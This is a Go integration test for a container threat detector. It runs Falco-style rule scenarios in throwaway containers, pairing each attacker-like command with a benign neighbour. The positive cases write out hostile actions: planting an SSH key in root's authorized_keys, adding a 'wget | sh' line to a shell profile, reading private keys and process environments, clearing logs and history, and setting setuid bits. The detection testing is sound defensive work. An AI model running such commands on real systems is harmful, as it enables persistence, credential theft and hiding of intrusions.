package detector_test

import (
	"fmt"
	"io/fs"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/riposte-sec/riposte/detector"
	exrules "github.com/riposte-sec/riposte/examples/rules"
	"github.com/riposte-sec/riposte/internal/alert"
	"github.com/riposte-sec/riposte/internal/testutil"
)

// rulesWithAPIServer writes the default rules to a folder with the
// Kubernetes API server list set to addr, as an operator sets it to the
// cluster's service IP.
func rulesWithAPIServer(t *testing.T, addr string) string {
	t.Helper()
	return rulesWithList(t, "k8s_api_server_addresses", "10.96.0.1", addr)
}

// rulesWithList writes the default rules to a folder with the items of
// list (which must read [old]) set to items, as an operator edits a list to
// their environment.
func rulesWithList(t *testing.T, list, old, items string) string {
	t.Helper()
	dir := t.TempDir()
	from := "- list: " + list + "\n  items: [" + old + "]"
	var found bool
	err := fs.WalkDir(exrules.FS, ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".yaml") {
			return err
		}
		b, err := fs.ReadFile(exrules.FS, p)
		if err != nil {
			return err
		}
		s := string(b)
		if strings.Contains(s, from) {
			found = true
			s = strings.Replace(s, from, "- list: "+list+"\n  items: ["+items+"]", 1)
		}
		return os.WriteFile(filepath.Join(dir, filepath.Base(p)), []byte(s), 0o644)
	})
	if err != nil {
		t.Fatalf("copy default rules: %v", err)
	}
	if !found {
		t.Fatalf("default rules have no list %s with items [%s] to set", list, old)
	}
	return dir
}

// TestFalcoRuleScenarios runs, in one real container, what each of the
// Falco-counterpart rules must catch and, in another, the benign command
// nearest to it, which must not alert. Alerts must name the container and
// the process; processes started by docker exec have the shim as parent.
func TestFalcoRuleScenarios(t *testing.T) {
	cli := testutil.DockerClient(t)
	t.Parallel()
	testutil.Integration(t, testutil.Root, testutil.BPF, testutil.Docker)
	pid := os.Getpid()
	posName, negName := fmt.Sprintf("det-falco-pos-%d", pid), fmt.Sprintf("det-falco-neg-%d", pid)
	pos, posIP := runOnInternalNetwork(t, cli, posName)
	neg, negIP := runOnInternalNetwork(t, cli, negName)
	_, got := startDetector(t, detector.Config{DisableResources: true, Rules: []string{rulesWithAPIServer(t, posIP)}}, cli)

	// connectTo listens on port in the container and connects to it over
	// the container's own address, as a connection out of it.
	connectTo := func(ip string, port int) []string {
		return []string{"sh", "-c", fmt.Sprintf("nc -l -p %d </dev/null >/dev/null 2>&1 & sleep 0.3; nc -w 1 %s %d </dev/null >/dev/null 2>&1; true", port, ip, port)}
	}
	const shim = "containerd-shim" // runc's transient processes are skipped
	tests := []struct {
		rule   string
		setup  [][]string // run in both containers first
		pos    [][]string
		neg    [][]string
		fields map[string]string // expected fields of the positive alert; a value starting with * is a suffix
		as     execAs            // how pos and neg run (user, terminal)
		negAs  execAs
	}{
		{rule: "Launch Package Management Process in Container",
			pos:    [][]string{{"dpkg", "-l"}},
			neg:    [][]string{{"ls", "/var"}},
			fields: map[string]string{"proc.name": "dpkg", "proc.pname": shim, "proc.cmdline": "dpkg -l"}},
		{rule: "Launch Suspicious Network Tool in Container",
			pos:    [][]string{{"telnet", "127.0.0.1", "1"}},
			neg:    [][]string{{"ping", "-c", "1", "-W", "1", "127.0.0.1"}},
			fields: map[string]string{"proc.name": "telnet", "proc.pname": shim}},
		{rule: "User mgmt binaries",
			pos:    [][]string{{"passwd", "-l", "root"}},
			neg:    [][]string{{"id", "-u"}},
			fields: map[string]string{"proc.name": "passwd", "proc.pname": shim}},
		{rule: "Detect crypto miners using the Stratum protocol",
			pos:    [][]string{{"true", "-o", "stratum+tcp://pool.invalid:3333"}},
			neg:    [][]string{{"true", "-o", "tcp://pool.invalid:3333"}},
			fields: map[string]string{"proc.name": "true", "proc.cmdline": "true -o stratum+tcp://pool.invalid:3333"}},
		{rule: "Search Private Keys or Passwords",
			pos:    [][]string{{"find", "/etc", "-name", "id_rsa"}, {"grep", "-r", "BEGIN RSA PRIVATE", "/etc"}},
			neg:    [][]string{{"find", "/etc", "-name", "*.conf"}, {"grep", "root", "/etc/passwd"}},
			fields: map[string]string{"proc.pname": shim}},
		{rule: "Read ssh information",
			setup:  [][]string{{"sh", "-c", "mkdir -p /home/eve/.ssh && echo key > /home/eve/.ssh/id_rsa"}},
			pos:    [][]string{{"cat", "/home/eve/.ssh/id_rsa"}},
			neg:    [][]string{{"sh", "-c", "echo host >> /home/eve/.ssh/known_hosts"}},
			fields: map[string]string{"proc.name": "cat", "fd.name": "/home/eve/.ssh/id_rsa"}},
		{rule: "Read environment variable from /proc files",
			pos:    [][]string{{"cat", "/proc/1/environ"}},
			neg:    [][]string{{"cat", "/proc/self/environ"}},
			fields: map[string]string{"proc.name": "cat", "fd.name": "/proc/1/environ"}},
		{rule: "Write below etc",
			pos:    [][]string{{"sh", "-c", "echo x > /etc/evil.conf"}},
			neg:    [][]string{{"sh", "-c", "cat /etc/passwd >/dev/null; echo x > /tmp/evil.conf"}},
			fields: map[string]string{"fd.name": "/etc/evil.conf", "proc.name": "sh"}},
		{rule: "Write below root",
			pos:    [][]string{{"sh", "-c", "mkdir -p /root/.ssh && echo 'ssh-ed25519 AAAAC3 eve' >> /root/.ssh/authorized_keys"}},
			neg:    [][]string{{"sh", "-c", "mkdir -p /root/.cache && echo x > /root/.cache/state"}},
			fields: map[string]string{"fd.name": "/root/.ssh/authorized_keys", "proc.name": "sh", "proc.pname": shim}},
		{rule: "Modify Shell Configuration File",
			pos:    [][]string{{"sh", "-c", "echo 'wget -q -O- x | sh' >> /root/.profile"}},
			neg:    [][]string{{"sh", "-c", "mkdir -p /home/eve && echo x >> /home/eve/.profile.bak"}},
			fields: map[string]string{"fd.name": "/root/.profile"}},
		{rule: "Schedule Cron Jobs",
			setup:  [][]string{{"sh", "-c", "echo '* * * * * id' > /tmp/cronfile"}},
			pos:    [][]string{{"crontab", "/tmp/cronfile"}},
			neg:    [][]string{{"crontab", "-l"}},
			fields: map[string]string{"proc.name": "crontab", "proc.pname": shim}},
		{rule: "Clear Log Activities",
			setup:  [][]string{{"sh", "-c", "mkdir -p /var/log && echo x >> /var/log/auth.log"}},
			pos:    [][]string{{"sh", "-c", ": > /var/log/auth.log"}, {"truncate", "-s", "0", "/var/log/auth.log"}},
			neg:    [][]string{{"sh", "-c", "echo y >> /var/log/auth.log"}},
			fields: map[string]string{"fd.name": "/var/log/auth.log"}},
		{rule: "Delete or rename shell history",
			setup:  [][]string{{"sh", "-c", "echo ls >> /root/.ash_history"}},
			pos:    [][]string{{"sh", "-c", ": > /root/.ash_history"}, {"rm", "-f", "/root/.ash_history"}},
			neg:    [][]string{{"sh", "-c", "echo ls >> /root/.ash_history"}, {"rm", "-f", "/tmp/cronfile"}},
			fields: map[string]string{"fd.name": "/root/.ash_history"}},
		{rule: "Detect outbound connections to common miner pool ports",
			pos:    [][]string{connectTo(posIP, 3333)},
			neg:    [][]string{connectTo(negIP, 8080)},
			fields: map[string]string{"fd.name": "*->" + posIP + ":3333"}},
		{rule: "Contact K8S API Server From Container",
			pos:    [][]string{connectTo(posIP, 6443)},
			neg:    [][]string{connectTo(negIP, 6443)}, // not the API server's address
			fields: map[string]string{"fd.name": "*->" + posIP + ":6443"}},
		{rule: "Set Setuid or Setgid bit",
			setup:  [][]string{{"cp", "/bin/busybox", "/tmp/bb"}},
			pos:    [][]string{{"chmod", "4755", "/tmp/bb"}},
			neg:    [][]string{{"chmod", "755", "/tmp/bb"}},
			fields: map[string]string{"proc.name": "chmod", "fd.name": "/tmp/bb", "evt.arg.mode": "S_ISUID|S_IRUSR|S_IWUSR|S_IXUSR|S_IRGRP|S_IXGRP|S_IROTH|S_IXOTH"}},
		{rule: "Create Symlink Over Sensitive Files",
			pos:    [][]string{{"ln", "-s", "/etc/shadow", "/tmp/shadow-link"}},
			neg:    [][]string{{"ln", "-s", "/etc/passwd", "/tmp/passwd-link"}},
			fields: map[string]string{"proc.name": "ln", "evt.arg.target": "/etc/shadow", "evt.arg.linkpath": "/tmp/shadow-link"}},
		{rule: "Create Hardlink Over Sensitive Files",
			pos:    [][]string{{"ln", "/etc/shadow", "/tmp/shadow-hard"}},
			neg:    [][]string{{"ln", "/etc/passwd", "/tmp/passwd-hard"}},
			fields: map[string]string{"proc.name": "ln", "evt.arg.oldpath": "/etc/shadow", "evt.arg.newpath": "/tmp/shadow-hard"}},
		{rule: "Mount Launched in Container",
			pos:    [][]string{{"mount", "-t", "tmpfs", "none", "/tmp"}}, // refused: the container lacks CAP_SYS_ADMIN
			neg:    [][]string{{"cat", "/proc/mounts"}},
			fields: map[string]string{"proc.name": "mount", "evt.arg.dir": "/tmp", "evt.arg.type": "tmpfs", "evt.errno": "EPERM"}},
		{rule: "Change thread namespace",
			pos:    [][]string{{"nsenter", "-t", "1", "-n", "true"}},
			neg:    [][]string{{"ls", "-l", "/proc/1/ns"}},
			fields: map[string]string{"proc.name": "nsenter", "evt.arg.flags": "CLONE_NEWNET", "evt.errno": "EPERM"}},
		{rule: "Change namespace privileges via unshare",
			pos:    [][]string{{"unshare", "-n", "true"}},
			neg:    [][]string{{"nice", "true"}},
			fields: map[string]string{"proc.name": "unshare", "evt.arg.flags": "CLONE_NEWNET"}},
		{rule: "Unexpected UDP Traffic",
			pos:    [][]string{{"nslookup", "-timeout=1", "x", posIP + ":4789"}}, // a DNS query to a port DNS is not on
			neg:    [][]string{{"nslookup", "-timeout=1", "x", negIP}},
			fields: map[string]string{"fd.name": "*->" + posIP + ":4789", "fd.l4proto": "udp"}},
		{rule: "System user interactive",
			pos:    [][]string{{"id"}},
			as:     execAs{user: "nobody", tty: true},
			neg:    [][]string{{"id"}},
			negAs:  execAs{user: "nobody"},
			fields: map[string]string{"proc.name": "id", "user.name": "nobody", "proc.pname": shim}},
	}
	for _, tt := range tests {
		for _, cmd := range tt.setup {
			dockerExec(t, cli, pos, false, cmd...)
			dockerExec(t, cli, neg, false, cmd...)
		}
	}
	for _, tt := range tests {
		for _, cmd := range tt.neg {
			dockerExecAs(t, cli, neg, tt.negAs, cmd...)
		}
	}
	for _, tt := range tests {
		for _, cmd := range tt.pos {
			dockerExecAs(t, cli, pos, tt.as, cmd...)
		}
	}
	// A marker in the negative container, run last: once its alert is in,
	// the negatives' events (earlier in the ring buffer) were evaluated.
	dockerExec(t, cli, neg, false, "cat", "/etc/shadow")

	first := func(id, rule string) *alert.Alert {
		for _, a := range got.snapshot() {
			if a.Rule == rule && a.Field("container.id") == id[:12] {
				return &a
			}
		}
		return nil
	}
	deadline := time.Now().Add(30 * time.Second) // a loaded CI machine: the whole suite runs beside it
	for {
		var missing []string
		for _, tt := range tests {
			if first(pos, tt.rule) == nil {
				missing = append(missing, tt.rule)
			}
		}
		if first(neg, "Read sensitive file untrusted") == nil {
			missing = append(missing, "marker alert of the negative container")
		}
		if len(missing) == 0 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("missing alerts %q; got %v", missing, ruleNames(got.snapshot()))
		}
		time.Sleep(50 * time.Millisecond)
	}
	for _, tt := range tests {
		t.Run(tt.rule, func(t *testing.T) {
			a := first(pos, tt.rule)
			t.Logf("%s", strings.TrimSpace(a.Output))
			if c := a.Container(); c.Name != posName || c.Image != "riposte-test" || c.Tag != "1" {
				t.Errorf("container = %+v, want name %s image riposte-test:1", c, posName)
			}
			for f, want := range tt.fields {
				gotv := a.Field(f)
				if suffix, ok := strings.CutPrefix(want, "*"); ok && strings.HasSuffix(gotv, suffix) || gotv == want {
					continue
				}
				t.Errorf("%s = %q, want %q", f, gotv, want)
			}
			if n := first(neg, tt.rule); n != nil {
				t.Errorf("benign neighbour in %s alerted: %s", negName, n.Output)
			}
		})
	}
}
